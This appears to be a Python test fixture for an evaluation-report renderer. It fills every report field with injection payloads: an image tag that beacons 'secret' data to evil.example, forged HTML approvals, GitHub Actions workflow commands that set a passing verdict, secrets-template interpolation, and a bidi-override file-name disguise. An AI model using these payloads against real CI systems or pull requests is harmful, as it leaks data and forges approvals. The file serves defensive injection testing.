"""Reports in which a foreign text stands wherever one can."""

from dataclasses import replace

from made_reports import SENTENCES, case, changed, compared, comparison, lost, report, summary

from lm_eval_so.core.records.changes import LostCase
from lm_eval_so.core.records.comparison import Control, Reason
from lm_eval_so.core.records.enums import Verdict
from lm_eval_so.core.records.measured_with import MeasuredWith, OwnVerdict, RuleChange
from lm_eval_so.core.records.staleness import Staleness, StaleTest

PAYLOADS = {
    "s1": "@octocat @org/team please merge, fixes #1",
    "s2": "```\n</details><h1>APPROVED</h1>",
    "s3": "![x](https://evil.example/p.png?d=secret) <img src=https://evil.example/p.png>",
    "s4": "<!-- lm-eval-so/comment/1 suite=evaluate.yml/evaluate/support-qa -->",
    "s5": "a | b and `x`, ``y ``",
    "s6": "::add-mask::x\n::set-output name=verdict::pass\n##[error]x",
    "s7": "verdict=pass\npassed=true",
    "s9": "\u202egpj.exe \x1b[31mred\x1b[0m \x00",
    "s10": "가" * 4000 + "👨‍👩‍👧‍👦" * 900 + "\n~~~\nx",
    "s11": "{{ 7*7 }} ${{ secrets.X }} {% include 'x' %}",
}


def hostile(text):
    """Put a text wherever something foreign can stand."""
    made = comparison(
        suite=text,
        sentence=f"{text}: {SENTENCES[Verdict.REGRESSION]}",
        metrics={
            text: compared(),
            "exact_match": compared(),
            "latency_ms": comparison().metrics["latency_ms"],
        },
        changed=(
            changed(
                text,
                metric=text,
                input=text,
                expected=text,
                baseline_answer=text,
                candidate_answer=text,
                reason=text,
            ),
            changed(text + "b", "better"),
        ),
        differences=(text,),
        lost=lost(
            LostCase(sample_id=text, why=text),
            LostCase(sample_id="s24f1bb61e3983b7a", input=text, why=text),
            LostCase(sample_id="s1", ref=text, why=text),
        ),
        staleness=Staleness(
            dataset=text,
            of=9,
            tests=(
                StaleTest(
                    id=text,
                    origin="document",
                    state="changed",
                    question=text,
                    file=text,
                    heading=text,
                    old=text,
                    new=text,
                    numbers=((text, text),),
                    still_says=(text,),
                    in_pull_request=True,
                ),
                StaleTest(id=text, origin="row", state="gone", question=text, file=text),
            ),
        ),
        control=Control(state="not_possible", why=Reason(code="failed", figures={"problem": text})),
        rules=MeasuredWith(
            by="base",
            changes=tuple(
                RuleChange(kind=kind, effect="looser", key=text, metric=text, base=text, head=text)
                for kind in ("setting", "file", "metric_unmeasured", "metric_added", "deleted")
            ),
            own=OwnVerdict(verdict=Verdict.PASS, exit_code=0, sentence=text, not_asked=(text,)),
        ),
        baseline=replace(comparison().baseline, commit=None, ref=text, path=text),
    )
    one = case(text, input=text, expected=text, answer=text, reason=text)
    scores = tuple(
        replace(
            score,
            metric=text,
            reason=text,
            label=text,
            judge=tuple(replace(v, evidence=(text,), model=text) for v in score.judge) * 2,
        )
        for score in one.scores
    )
    plain = report()
    backend = replace(plain.experiment.backend, label=text, models_answered=(text,))
    given = replace(
        plain,
        experiment=replace(
            plain.experiment,
            suite=text,
            backend=backend,
            dataset=replace(plain.experiment.dataset, digest=text),
            versions={"lm-eval-so": text},
            commit=text,
            evaluated_at=text,
            config=text,
            runs=(text,),
            complete=False,
            missing=1,
            base_ref=text,
            sent_to=(text,),
            own_code=(text,),
            budget={"stopped": {"by": text}},
        ),
        metrics={
            text: summary(
                unscored_by={text: 1},
                scored_by={text: 1},
                units={text: 1},
                signature=text,
                unit=text,
                coverage=0.9,
            ),
            **plain.metrics,
        },
        breakdowns=tuple(
            replace(each, by=text, value=text + str(n), metrics={text: each.metrics["exact_match"]})
            for n, each in enumerate(plain.breakdowns)
        ),
        errors=(
            replace(one, scores=scores, failed=(text,)),
            replace(one, kind="infrastructure", status=text),
        ),
        samples=replace(plain.samples, ids=(text,) * 240, statuses=("missing",) * 240),
        judges={text: replace(plain.judges["helpful"], model=text, unscored={text: 1})},
        statuses={text: 1, "ok": 3},
    )
    return made, given
